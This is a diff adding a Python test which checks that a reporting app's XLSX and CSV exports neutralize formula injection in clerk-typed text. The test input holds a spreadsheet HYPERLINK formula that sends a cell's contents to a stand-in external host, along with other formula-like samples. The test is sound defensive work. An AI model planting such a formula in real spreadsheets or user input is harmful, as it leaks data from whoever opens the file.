@@ -167,3 +167,28 @@ def test_the_sample_collection_summary_adds_up(tmp_path):  # type: ignore[no-unt
     assert sums == figures(total)[-11:]
     text = pdfcheck.text(paths["report_collection.pdf"].read_bytes())
     assert "营业厅收费汇总表" in text and "李强" in text
+
+
+def test_typed_text_is_never_a_formula_in_an_export(tmp_path):  # type: ignore[no-untyped-def]
+    """A reason a clerk typed (退补 原因, free text) that looks like a formula stays text: Excel
+    or WPS opening the export must not evaluate it (formula injection)."""
+    from app.dto.reports import Column, ReportHeader, ReportTable
+
+    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"点此")'
+    header = ReportHeader(
+        "退补清单", "营业厅", "3301", "公司", "2026-12-06", dt.datetime.now().astimezone(), "值班长"
+    )
+    table = ReportTable(
+        "adjustments",
+        header,
+        (Column("reason", "原因", "text", 2.0), Column("amount_fen", "退补金额", "money")),
+        ((evil, -1200), ("+1+2", 500), ("@SUM(1)", 100)),
+        (None, -600),
+    )
+    ws = load_workbook(report_export.export_report(table, tmp_path / "a.xlsx")).active
+    cells = [c for row in ws.iter_rows() for c in row if c.value in (evil, "+1+2", "@SUM(1)")]
+    assert len(cells) == 3 and all(c.data_type == "s" for c in cells)
+    raw = report_export.export_report(table, tmp_path / "a.csv").read_bytes().decode("utf-8-sig")
+    texts = [r[0] for r in csv.reader(io.StringIO(raw))][1:4]
+    assert all(not t.startswith(("=", "+", "-", "@")) for t in texts), texts
+    assert [t.lstrip("'") for t in texts] == [evil, "+1+2", "@SUM(1)"]
